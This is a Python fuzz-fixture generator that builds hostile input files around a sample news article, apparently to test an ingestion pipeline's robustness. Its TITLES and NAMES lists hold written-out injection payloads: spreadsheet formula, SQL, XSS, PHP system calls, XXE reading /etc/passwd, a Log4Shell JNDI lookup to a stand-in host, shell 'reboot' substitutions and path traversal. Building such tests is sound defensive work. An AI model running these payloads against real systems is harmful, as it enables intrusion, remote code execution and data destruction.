"""Documents that somebody made to break a program, each a file of a landing folder.

What belongs here: making them. What does not: what must become of them (the tests).

Most are a sound article with one thing in it that is not: so they pass the first stages and
reach the last.
"""

import json
import random
from collections.abc import Iterator

from bench.faults.shapes import SHAPES, text_of

File = tuple[str, bytes]

HEADER = " date 2024-01-19 "
TITLE = "Northern quay of Mombasa closed"
BODY = (
    "MOMBASA, Kenya (AP) — The harbour master Ana Kowalski said on Thursday that the northern quay"
    " was closed by wind. Ships of the Kenya Ports Authority waited off the coast until 20 January."
    "\n\n"
    "“No crane can work in such a storm,” she told Reuters in Nairobi. France sent two tugs.\n"
)
ARTICLE = f"{HEADER}{TITLE}\n\n{BODY}"

ENCODINGS = (
    *("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"),
    *("utf-7", "cp1252", "latin-1", "cp1251", "koi8-r", "shift_jis", "gb18030", "euc-kr", "big5"),
    *("iso-8859-7", "cp037", "cp437", "mac-roman", "iso2022-jp", "hz", "punycode"),
)
MARKS = (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\x00\x00\xfe\xff")
BROKEN = (
    *(
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xf0\x80\x80\xaf",
        b"\xed\xa0\x80",
        b"\xed\xb0\x80\xed\xa0\x80",
    ),
    *(b"\xf4\x90\x80\x80", b"\xfe", b"\xff", b"\x80", b"\xbf" * 9, b"\xe2\x82", b"\xf0\x9f\x98"),
    *(b"\xef\xbf\xbe", b"\xef\xbf\xbf", b"\xef\xb7\x90", b"\xee\x80\x80", b"\xf3\xa0\x81\x81"),
)
CHARACTERS = (
    *"\u00a0\u00ad\u034f\u061c\u115f\u180e\u2000\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a",
    *"\u202b\u202c\u202d\u202e\u202f\u2060\u2066\u2067\u2068\u2069\u206a\u3000\ufe0f\ufeff\ufffd",
    *"\ufff9\ufffb\U000e0041\U0001f1eb\U0001f468\u0301\u0335\u0489\u0e33\u1160\u30fb\u0130\u00df",
)
DATES = (
    *("9999-12-31", "9999-12", "10000-01-01", "0000-00-00", "0000-01-01", "0001-01-01", "1-1-1"),
    *("1899-12-31", "1582-10-10", "2024-02-30", "2023-02-29", "2024-13-45", "2024-00-19", "2024-1"),
    *(
        "99999-99-99",
        "999999-9999-9999",
        "2024-01-19T25:61:61Z",
        "2024-01-19T23:59:60Z",
        "20241345",
    ),
    *("9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "2024-01-19T10:05:00+99:99"),
    *("99999999", "9999999999", "9999999999999", "0000000000", "31 February 2024", "1e999"),
    *("Thursday 31 June 2024", "19 Jan 0000", "2024-01-19 2024-01-20", "٢٠٢٤-٠١-١٩", "²⁰²⁴-01-19"),
)
TITLES = (
    *("=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1)", "\t=1", "'; DROP TABLE articles; --"),
    *('" OR ""="', "Robert'); DELETE FROM articles WHERE ('1'='1", "<script>alert(1)</script>"),
    *(
        "<img src=x onerror=alert(1)>",
        "<b>bold</b> of <i>all</i>",
        "</title></html>",
        "<!--",
        "-->",
    ),
    *("<![CDATA[", "<?php system('id') ?>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&lt;b&gt;"),
    *("&#0;", "&#x110000;", "&#xD800;", "&amp;amp;amp;", "{{7*7}}", "${jndi:ldap://a.example/a}"),
    *("$(reboot)", "`reboot`", "; reboot", "| reboot", "%s%s%s%n", "%00", "\\x00", "\\", "\\\\"),
    *("../../etc/passwd", "/etc/passwd", "C:\\boot.ini", "\\\\host\\share", "file:///etc/passwd"),
    *(
        "javascript:alert(1)",
        "http://[::1",
        "http://a:99999999/",
        "null",
        "None",
        "NaN",
        "Infinity",
    ),
    *("-1e999", "0x7fffffff", "true", "[]", "{}", '{"a": 1}', "---\n- a", "\x1b[31mred", "\x07"),
    *("%PDF-1.7", "{\\rtf1", "PK\x03\x04", "WARC/1.0", "HTTP/1.1 200 OK", "From: a@b.example"),
    *("a" * 300, "A" * 300, "( " * 300, "Ana " * 300, "1" * 300, "“" * 300, "É́" * 200, "𝕬𝖓𝖆 𝕷𝖎"),
)
NAMES = (
    *("two\nlines", "tab\t", "quote'", 'quote"', "semi;reboot", "$(reboot)", "-rf", "--", "CON"),
    *(
        "a b  c",
        "%2e%2e%2f",
        "\\..\\..\\a",
        "=1+1",
        "<b>",
        "\u202egnp",
        "\u200b",
        "\u00e9",
        "e\u0301",
        "🚢",
    ),
    *("x" * 240, "a.txt", "a.json", "a.gz", "a.zip", "NUL:", "#1", "?a=b", "*", "{a,b}", "~root"),
)


def hostile_files() -> Iterator[File]:
    """Over 400 files, the same each time; the names differ."""
    families = (_bytes(), _characters(), _headers(), _titles(), _shapes(), _lines(), _names())
    for number, family in enumerate(families):
        for name, content in family:
            yield f"{number}/{name}", content


def _bytes() -> Iterator[File]:
    """Encodings, marks that lie, broken sequences, control characters, noise."""
    for encoding in ENCODINGS:
        yield f"{encoding}.txt", ARTICLE.encode(encoding, "replace")
        yield f"{encoding}-cut.txt", ARTICLE.encode(encoding, "replace")[:-1]
    for number, mark in enumerate(MARKS):
        for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
            yield f"mark-{number}-{encoding}.txt", mark + ARTICLE.encode(encoding)
        yield f"mark-{number}-alone.txt", mark
    for number, broken in enumerate(BROKEN):
        yield f"broken-{number}.txt", ARTICLE.encode().replace(b" ", b" " + broken)
        yield f"broken-once-{number}.txt", ARTICLE.encode().replace(b"quay", b"qu" + broken + b"ay")
    for control in (*range(32), 127, *range(128, 160)):
        yield f"control-{control}.txt", ARTICLE.replace("quay", f"qu{chr(control)}ay").encode()
    order = random.Random(7)
    for size in (1, 2, 3, 100, 5000):
        yield f"noise-{size}.txt", order.randbytes(size)
        yield f"noise-behind-{size}.txt", ARTICLE.encode() + order.randbytes(size)
    yield "all.txt", bytes(range(256)) * 20
    yield "nul.txt", bytes(5000)
    yield "nul-between.txt", b"\0".join(bytes([byte]) for byte in ARTICLE.encode())
    yield "nul-pages.txt", ARTICLE.encode() + bytes(5000) + BODY.encode()
    yield "empty.txt", b""


def _characters() -> Iterator[File]:
    """One character where it hurts: around each word, between all letters, in front of all."""
    for char in CHARACTERS:
        name = f"{ord(char):05x}"
        yield f"{name}-words.txt", ARTICLE.replace(" ", f"{char} {char}").encode()
        yield f"{name}-letters.txt", f"{HEADER}{char.join(TITLE)}\n\n{char.join(BODY)}".encode()
        yield f"{name}-first.txt", f"{char * 500}{ARTICLE}".encode()


def _headers() -> Iterator[File]:
    """Days that are none, headers upon headers, dates of all kinds in the text."""
    for number, day in enumerate(DATES):
        text = f"{TITLE}\n\n{BODY}"
        yield f"{number}.txt", f" date {day} {text}".encode()
        yield f"{number}-body.txt", f"{ARTICLE}It was built on {day} and on {day}.".encode()
        yield f"{number}-stamp.txt", f"{TITLE}\n\nPublished: {day}\n\n{BODY}".encode()
    yield "many.txt", f"{HEADER * 200}{TITLE}\n\n{BODY}".encode()
    yield "many-lines.txt", f"{HEADER}\n".encode() * 200 + BODY.encode()
    yield "alone.txt", HEADER.encode()
    yield "in-body.txt", f"{ARTICLE}\n{HEADER}{TITLE}\n\n{BODY}".encode()


def _titles() -> Iterator[File]:
    """Formulas, markup, SQL, paths, formats, as headline, sentence, place and whole body."""
    for number, title in enumerate(TITLES):
        yield f"{number}-title.txt", f"{HEADER}{title}\n\n{BODY}".encode("utf-8", "replace")
        text = f"{HEADER}{TITLE}\n\n{title} — {BODY}\n\n{title}\n\nBy {title}\n"
        yield f"{number}-around.txt", text.encode("utf-8", "replace")


def _shapes() -> Iterator[File]:
    """What makes a program slow, short."""
    for shape in SHAPES:
        yield (
            f"{shape.replace(' ', '-')}.txt",
            f"{ARTICLE}\n{text_of(shape, 1500)}".encode("utf-8", "replace"),
        )


def _lines() -> Iterator[File]:
    """Records of JSON that a parser, a table or a clock stumbles over."""
    raw = (
        "[" * 5000,
        '{"a":' * 5000,
        '{"text": NaN}',
        '{"text": 1e999}',
        '{"text": ["a"]}',
        '{"text": null}',
        '{"text": true}',
        '{"text": "a", "text": "b"}',
        f'{{"text": {json.dumps(ARTICLE)}, "text": 5}}',
        f'{{"text": {json.dumps(BODY)}, "published_at": 1e999}}',
        f'{{"text": {json.dumps(BODY)}, "published_at": -1e999}}',
        f'{{"text": {json.dumps(BODY)}, "published_at": NaN}}',
        f'{{"text": {json.dumps(BODY)}, "published_at": {"9" * 400}}}',
        f'{{"text": {json.dumps(BODY)}, "published_at": {"9" * 5000}}}',
        f'{{"text": {json.dumps(BODY)}, "title": {"[" * 900}{"]" * 900}}}',
        '{"text": "\\ud800 \\udfff"}',
        f'{{"text": {json.dumps(BODY)}, "title": "\\ud800"}}',
        '"text"',
        "5",
        "[]",
        "{}",
        "\ufeff{}",
        "{'text': 'a'}",
        '{"text": "a"',
        "\x00",
    )
    yield "raw.jsonl", "\n".join(raw).encode("utf-8", "surrogatepass")
    given = [{"published_at": day} for day in DATES]
    given += [{name: title} for title in TITLES for name in ("title", "publisher", "url")]
    given += [
        {"language": code} for code in ("", "en-", "x" * 999, "日本", "en\0", "e", "-", "EN_us")
    ]
    given += [{"published_at": value} for value in (0, -1, 10**9, 10**12, 10**18, -(10**18), 1.5)]
    records = ({"text": BODY, "published_at": "2024-01-19", **more} for more in given)
    yield "given.jsonl", "\n".join(map(json.dumps, records)).encode()
    yield "a.csv", b'text,title\n"' + BODY.encode() + b'",=1+1\n"open,x\n\x00,\x00\n,,,,\n'


def _names() -> Iterator[File]:
    """Names of files that are something else to a shell, a table or a page."""
    for number, name in enumerate(NAMES):
        yield f"{name}.txt", f"{ARTICLE}Its number is {number}.".encode()
